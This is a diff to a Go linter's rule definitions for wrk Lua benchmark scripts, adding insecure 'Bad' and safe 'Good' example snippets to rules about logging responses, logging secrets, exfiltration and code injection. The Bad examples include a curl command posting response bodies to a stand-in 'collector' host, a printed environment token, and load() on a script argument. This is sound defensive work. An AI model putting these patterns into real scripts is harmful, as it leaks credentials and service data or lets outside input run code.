@@ -26,6 +26,8 @@ var ResponseDataOutput = &analyzer.Rule{
 	CWE:       532,
 	Title:     "Do not print or write response data",
 	Precision: "high",
+	Bad:       "function response(status, headers, body)\n  if status ~= 200 then print(body) end\nend\n",
+	Good:      "function response(status, headers, body)\n  if status ~= 200 then print(status, #body) end\nend\n",
 	Description: "Data from a response — its body, a sensitive header (cookies, authorization, tokens, session ids), " +
 		"a header chosen at run time or reached by iterating the headers — reaches print, io.write, a standard stream " +
 		"or a file. Benchmark output ends up in CI logs and artifacts; response data in it leaks what the service returned.",
@@ -48,6 +50,8 @@ var SecretOutput = &analyzer.Rule{
 	CWE:       532,
 	Title:     "Do not print or write secrets",
 	Precision: "high",
+	Bad:       "local token = os.getenv(\"BENCH_TOKEN\")\nprint(\"using token \" .. token)\n",
+	Good:      "local token = os.getenv(\"BENCH_TOKEN\")\nwrk.headers[\"Authorization\"] = \"Bearer \" .. token\n",
 	Description: "An environment variable's value or a hard-coded secret reaches print, io.write, a standard stream or a file. " +
 		"Environment variables on load generators and CI runners hold credentials; printed, they end up in logs.",
 	Help: "Use the value where it belongs (a request header sent to the target) and print nothing of it. " +
@@ -66,6 +70,8 @@ var Exfiltration = &analyzer.Rule{
 	CWE:       200,
 	Title:     "Do not send response, environment or file data elsewhere",
 	Precision: "high",
+	Bad:       "function response(status, headers, body)\n  os.execute(\"curl -d '\" .. body .. \"' http://collector\")\nend\n",
+	Good:      "local errors = 0\nfunction response(status)\n  if status >= 500 then errors = errors + 1 end\nend\n",
 	Description: "Response, environment or file data reaches a command (os.execute, io.popen, or a write to a pipe), " +
 		"a network module (sockets, HTTP clients), or — in a script that redirects its target (WL701) — a request " +
 		"built with wrk.format, wrk.headers, wrk.body or request(). That sends it somewhere other than the benchmark target.",
@@ -90,6 +96,8 @@ var CodeInjection = &analyzer.Rule{
 	Title:            "Do not run code or commands built from external data",
 	Precision:        "high",
 	SecuritySeverity: "9.5",
+	Bad:              "function init(args)\n  load(args[1])()\nend\n",
+	Good:             "local depth = 1\nfunction init(args)\n  depth = tonumber(args[1]) or 1\nend\n",
 	Description: "Script arguments, environment, response or file data reaches load, loadstring, loadfile, dofile, " +
 		"require, os.execute or io.popen. Whoever controls that data — the server under test, a CI variable, " +
 		"a data file — runs code on the load generator.",
